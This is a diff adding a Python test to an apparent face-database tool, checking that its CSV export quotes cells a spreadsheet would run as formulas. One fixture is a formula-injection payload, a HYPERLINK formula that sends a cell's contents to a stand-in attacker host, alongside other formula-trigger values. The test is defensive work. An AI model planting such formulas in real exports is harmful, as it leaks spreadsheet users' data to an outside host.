@@ -301,3 +301,30 @@ def test_the_crop_is_black_where_the_margin_runs_past_the_edge_and_keeps_the_fac
     assert crop[22:118, 22:118].min() == 200  # the photo, at its own scale, in the middle
     inside = Detection((40.0, 40.0, 20.0, 20.0), ((0.0, 0.0),) * 5, 1.0)  # type: ignore[arg-type]
     assert crop_face(rgb, inside).min() == 200  # a face well inside: no black
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted():
+    import csv
+
+    from facedb.report import write_csv
+
+    people = [
+        {"id": 1, "name": '=HYPERLINK("http://evil.example/?"&A1,"click")'},
+        {"id": 2, "name": "+1 555"},
+        {"id": 3, "name": "-2+3"},
+        {"id": 4, "name": "@SUM(A1)"},
+        {"id": 5, "name": "\tTab"},
+        {"id": 6, "name": "Ada Lovelace"},
+    ]
+    group = {"tier": 5, "kind": "same person", "id": 1, "keep": 1, "reason": "r", "evidence": [], "people": people}
+    out = io.StringIO()
+    write_csv({"groups": [group]}, out)
+    names = [row["name"] for row in csv.DictReader(io.StringIO(out.getvalue()))]
+    assert names == [
+        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "'+1 555",
+        "'-2+3",
+        "'@SUM(A1)",
+        "'\tTab",
+        "Ada Lovelace",
+    ]
